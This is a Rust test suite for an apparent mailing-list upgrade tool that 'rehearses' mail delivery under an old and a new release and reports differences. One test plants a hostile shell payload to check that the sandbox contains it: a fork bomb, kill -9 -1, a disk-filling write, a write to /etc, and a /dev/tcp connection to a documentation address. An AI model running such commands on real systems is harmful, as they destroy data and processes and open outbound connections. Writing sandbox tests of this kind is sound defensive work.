//! Toy trees: what was changed in the future release on purpose is what a rehearsal finds, and nothing
//! else.

use std::fmt::Write as _;
use std::os::unix::fs::chown;
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::stage::{Stage, spawn};

const NOBODY: u32 = 65534;
/// Members of toylist, and its posts.
const MEMBERS: usize = 14;
const POSTS: usize = 20;

/// A site whose lists' mail can be rehearsed; tree b's release is as tree a's but for `changes` in it.
fn site(changes: &[(&str, &str)]) -> Stage {
    let stage = Stage::bare();
    let release = include_str!("release.sh");
    for tree in ["a", "b"] {
        let mut text = release.to_owned();
        for (old, new) in changes.iter().filter(|_| tree == "b") {
            assert!(text.contains(old), "{old}");
            text = text.replace(old, new);
        }
        for name in ["mail/mailman", "bin/qrunner"] {
            stage.make_dir(&format!("{tree}/{}", name.split('/').next().unwrap()));
            stage.write(&format!("{tree}/{name}"), &text, 0o755);
        }
        stage.make_dir(&format!("{tree}/qfiles/in"));
        chown(stage.path(&format!("{tree}/qfiles/in")), Some(NOBODY), None).unwrap();
    }
    for list in ["toylist", "reallist1"] {
        let members: String = (0..MEMBERS)
            .map(|n| format!("member{n}@member.example\n"))
            .collect();
        stage.write(&format!("var/lists/{list}/members"), members, 0o644);
        let mut posts = String::new();
        for n in 0..POSTS {
            let charset = ["us-ascii", "utf-8", "koi8-r", "iso-8859-1"][n % 4];
            let _ = write!(
                posts,
                "From ann@member.example  Sun Nov 22 10:02:00 2026\nFrom: ann@member.example\n\
                 To: {list}@lists.example\nSubject: post {n}\nMessage-ID: <{n}@member.example>\n\
                 Content-Type: text/plain; charset={charset}\nDate: Sun, 22 Nov 2026 10:02:00 +0000\n\n\
                 hello, {n}\n\n"
            );
        }
        let directory = format!("var/archives/private/{list}.mbox");
        stage.make_dir(&directory);
        stage.write(&format!("{directory}/{list}.mbox"), posts, 0o644);
        chown(stage.path(&format!("var/lists/{list}")), Some(NOBODY), None).unwrap();
    }
    let site = stage.read("site.toml");
    let queues = |site: String, tree: &str| {
        let root = format!("root = \"{}\"\n", stage.path(tree).display());
        let own = format!(
            "{root}queues = \"{}\"\n",
            stage.path(&format!("{tree}/qfiles")).display()
        );
        site.replace(&root, &own)
    };
    let site = match site.contains("queues =") {
        true => site,
        false => queues(queues(site, "a"), "b"),
    };
    stage.write(
        "site.toml",
        site + "\n[jobs]\nuser = \"nobody\"\n[rehearse]\ntime = \"20s\"\n",
        0o644,
    );
    stage.parity(&["init", "--current", "a"]).expect(0);
    stage
}

/// What a rehearsal of toylist's posts finds.
fn rehearsed(stage: &Stage, status: i32, more: &[&str]) -> Value {
    let words = ["rehearse", "toylist", "--only", "post", "--format", "json"];
    let words: Vec<&str> = words.iter().chain(more).copied().collect();
    let begin = Instant::now();
    let done = stage.parity(&words);
    let took = begin.elapsed();
    assert_eq!(done.status, Some(status), "{done:?}");
    let said: Value = serde_json::from_str(&done.stdout).unwrap();
    let list = said["lists"][0].clone();
    println!(
        "| {}: {} in {:.1} s",
        list["verdicts"],
        list["played"],
        took.as_secs_f64()
    );
    list
}

fn verdicts(list: &Value) -> Vec<(String, u64)> {
    let all = list["verdicts"].as_object().unwrap();
    all.iter()
        .map(|(verdict, count)| (verdict.clone(), count.as_u64().unwrap()))
        .collect()
}

#[test]
fn rehearsal_of_two_equal_trees_is_the_same_for_every_message_and_changes_nothing() {
    let stage = site(&[]);
    let before: Vec<_> = ["a", "b", "var", "aliases", "site.toml"]
        .map(|name| stage.snapshot(name))
        .into();
    let list = rehearsed(&stage, 0, &[]);
    assert_eq!(list["own"], POSTS, "{list:#}");
    let played = list["played"].as_u64().unwrap();
    assert_eq!(verdicts(&list), [("same".to_owned(), played)]);
    // The posts of our own that say who they are from go to all members, too.
    assert!(list["sent"]["current"].as_u64().unwrap() >= (POSTS * MEMBERS) as u64);
    let after: Vec<_> = ["a", "b", "var", "aliases", "site.toml"]
        .map(|name| stage.snapshot(name))
        .into();
    assert!(before == after, "something was written");
}

#[test]
fn rehearsal_of_a_release_that_loses_every_seventh_recipient_names_them() {
    let stage = site(&[("lose=0", "lose=7")]);
    let list = rehearsed(&stage, 10, &["--last", "10"]);
    let played = list["played"].as_u64().unwrap();
    // All but the one that is too large for both.
    let all = [
        ("recipients lost".to_owned(), played - 1),
        ("same".to_owned(), 1),
    ];
    assert_eq!(verdicts(&list), all, "{list:#}");
    let example = &list["groups"][0]["examples"][0];
    assert_eq!(
        example["new"],
        "not to member13@member.example, member6@member.example"
    );
    assert_eq!(example["message"], "toylist.mbox:101");
}

#[test]
fn rehearsal_of_a_release_with_another_word_in_its_footer_shows_that_line() {
    let stage = site(&[("list of friends", "list of members")]);
    let list = rehearsed(&stage, 10, &["--last", "10"]);
    let groups = list["groups"].as_array().unwrap();
    assert!(
        groups
            .iter()
            .all(|group| group["verdict"] == "text differs"),
        "{list:#}"
    );
    let example = &groups[0]["examples"][0];
    assert_eq!(example["old"], "You are on toylist, the list of friends");
    assert_eq!(example["new"], "You are on toylist, the list of members");
    let refused = stage.parity(&["upgrade", "toylist", "--rehearse", "--last", "2"]);
    refused
        .expect(1)
        .complains(&["text differs", "rehearsals/toylist.html", "accept"]);
}

#[test]
fn rehearsal_of_a_release_that_crashes_on_one_charset_names_those_messages() {
    let stage = site(&[("crash=", "crash=koi8-r")]);
    let list = rehearsed(&stage, 10, &[]);
    let failed = verdicts(&list);
    assert_eq!(
        failed[0],
        ("failed".to_owned(), (POSTS / 4) as u64),
        "{list:#}"
    );
    let example = &list["groups"][0]["examples"][0];
    assert_eq!(
        example["new"],
        "ended with status 1: no such charset: koi8-r"
    );
}

#[test]
fn rehearsal_of_a_release_that_takes_three_times_as_long_and_more_says_slower() {
    let stage = site(&[("pause=0", "pause=2.5")]);
    let list = rehearsed(&stage, 10, &["--last", "1"]);
    let played = list["played"].as_u64().unwrap();
    let all = [("same".to_owned(), 1), ("slower".to_owned(), played - 1)];
    assert_eq!(verdicts(&list), all, "{list:#}");
}

#[test]
fn rehearsal_of_a_header_that_comes_is_accepted_and_the_list_moves() {
    let stage = site(&[("header=", "header='X-New: yes'")]);
    let done = stage
        .parity(&["upgrade", "toylist", "--rehearse", "--last", "2"])
        .expect(0);
    done.says(&["rehearsed toylist", "headers differ", "upgraded 1 list"]);
}

#[test]
fn rehearsal_of_a_hostile_release_harms_nothing_and_is_told() {
    let stage = site(&[(
        "{ echo \"$1 $2\"; cat; } >\"$entry\"",
        "echo evil >/etc/evil; (echo x >/dev/tcp/192.0.2.1/25); kill -9 -1; \
         head -c 2G /dev/zero >\"$data/lists/$2/full\"; f() { f | f & }; f; sleep 600",
    )]);
    let before = stage.snapshot("var");
    stage.write(
        "site.toml",
        stage
            .read("site.toml")
            .replace("time = \"20s\"", "time = \"3s\""),
        0o644,
    );
    let list = rehearsed(&stage, 10, &["--last", "2"]);
    let played = list["played"].as_u64().unwrap();
    assert_eq!(verdicts(&list), [("failed".to_owned(), played)], "{list:#}");
    assert!(stage.snapshot("var") == before, "something was written");
    assert!(!std::path::Path::new("/etc/evil").exists());
}

#[test]
fn rehearsal_that_is_told_to_end_or_killed_leaves_nothing_that_the_next_one_keeps() {
    let stage = site(&[("pause=0", "pause=5")]);
    for signal in ["-INT", "-KILL"] {
        let mut child = spawn(&mut stage.command("mm-parity", &["rehearse", "toylist"]));
        let places =
            || std::fs::read_dir(stage.path("state/rehearsals")).map_or(0, Iterator::count);
        let end = Instant::now() + Duration::from_secs(30);
        while places() == 0 && Instant::now() < end {
            std::thread::sleep(Duration::from_millis(20));
        }
        std::thread::sleep(Duration::from_secs(1));
        let pid = child.id().to_string();
        let sent = std::process::Command::new("kill")
            .args([signal, &pid])
            .status()
            .unwrap();
        assert!(sent.success());
        let status = child.wait().unwrap();
        match signal {
            "-INT" => {
                assert_eq!(status.code(), Some(1));
                assert_eq!(places(), 0);
            }
            _ => assert_eq!(places(), 1),
        }
        // Nobody of the room is left.
        let end = Instant::now() + Duration::from_secs(20);
        let dir = stage.dir.to_str().unwrap().to_owned();
        let is_left = || {
            let all = std::fs::read_dir("/proc").unwrap().flatten();
            all.map(|entry| std::fs::read(entry.path().join("cmdline")).unwrap_or_default())
                .any(|line| String::from_utf8_lossy(&line).contains(&format!("{dir}/b/")))
        };
        while is_left() && Instant::now() < end {
            std::thread::sleep(Duration::from_millis(20));
        }
        assert!(!is_left());
    }
    stage.write("b/bin/qrunner", include_str!("release.sh"), 0o755);
    rehearsed(&stage, 0, &["--last", "1"]);
    assert_eq!(
        std::fs::read_dir(stage.path("state/rehearsals"))
            .unwrap()
            .count(),
        0
    );
}

#[test]
fn rehearsal_of_several_lists_is_told_list_by_list_and_what_cannot_be_played_is_refused() {
    let stage = site(&[]);
    let done = stage.parity(&[
        "rehearse",
        "toylist",
        "reallist1",
        "--only",
        "post",
        "--last",
        "3",
    ]);
    done.expect(0)
        .says(&["reallist1: ", "toylist: ", "the same with both releases"]);
    let done = stage.parity(&["rehearse", "toylst"]);
    done.expect(1).complains(&["toylst", "toylist"]);
    let done = stage.parity(&["rehearse", "toylist", "--since", "soon"]);
    done.expect(1).complains(&["--since", "2026-11-22"]);
    let done = stage.parity(&["rehearse", "toylist", "--mail", "/nowhere"]);
    done.expect(1).complains(&["/nowhere"]);
    let done = stage.parity(&[
        "rehearse",
        "toylist",
        "--since",
        "2027-01-01",
        "--only",
        "post",
    ]);
    done.expect(11).says(&["no mail of the list's own"]);
}

#[test]
fn rehearsal_of_lists_in_a_database_that_is_no_file_is_refused() {
    let stage = site(&[]);
    let profile = include_str!("../../../src/profiles/mailman2.toml");
    let profile = profile.replace(
        "[rehearsal]\n",
        "[rehearsal]\ndatabase = \"{data}/data/lists.db\"\n",
    );
    stage.make_dir("profiles");
    stage.write("profiles/mine.toml", profile, 0o644);
    let site = stage.read("site.toml");
    stage.write("site.toml", site.replace("\"mailman2\"", "\"mine\""), 0o644);
    let done = stage.parity(&["rehearse", "toylist"]);
    done.expect(1)
        .complains(&["data/lists.db", "in a database that is no file"]);
    // As one whose profile says nothing of it.
    let profile = stage.read("profiles/mine.toml");
    let end = profile.find("[rehearsal]").unwrap();
    stage.write("profiles/mine.toml", &profile[..end], 0o644);
    let done = stage.parity(&["rehearse", "toylist"]);
    done.expect(1)
        .complains(&["its profile has no [rehearsal]"]);
}

#[test]
fn rehearsal_of_a_tree_that_is_changed_meanwhile_moves_no_list() {
    let stage = site(&[("pause=0", "pause=0.3")]);
    let words = ["upgrade", "toylist", "--rehearse", "--last", "2"];
    let mut command = stage.command("mm-parity", &words);
    let command = command
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let child = spawn(command);
    let places = || std::fs::read_dir(stage.path("state/rehearsals")).map_or(0, Iterator::count);
    let end = Instant::now() + Duration::from_secs(30);
    while places() == 0 && Instant::now() < end {
        std::thread::sleep(Duration::from_millis(20));
    }
    std::thread::sleep(Duration::from_secs(1));
    stage.write("b/Mailman/new.py", "x = 1\n", 0o644);
    let done = crate::stage::Done::new(child.wait_with_output().unwrap());
    done.expect(1)
        .complains(&["a tree was changed while it was rehearsed"]);
    stage
        .parity(&["status"])
        .expect(0)
        .says(&["3 lists: 3 on current"]);
}

#[test]
fn rehearsal_of_programs_that_cannot_be_started_is_no_rehearsal() {
    let stage = site(&[]);
    for tree in ["a", "b"] {
        stage.write(&format!("{tree}/mail/mailman"), "#!/nowhere/sh\n", 0o755);
    }
    let list = rehearsed(&stage, 11, &["--last", "2"]);
    assert_eq!(list["played"], list["not_judged"], "{list:#}");
    let done = stage.parity(&["rehearse", "toylist", "--only", "postt"]);
    done.expect(1)
        .complains(&["no such verb", "verbs: ", "post"]);
}
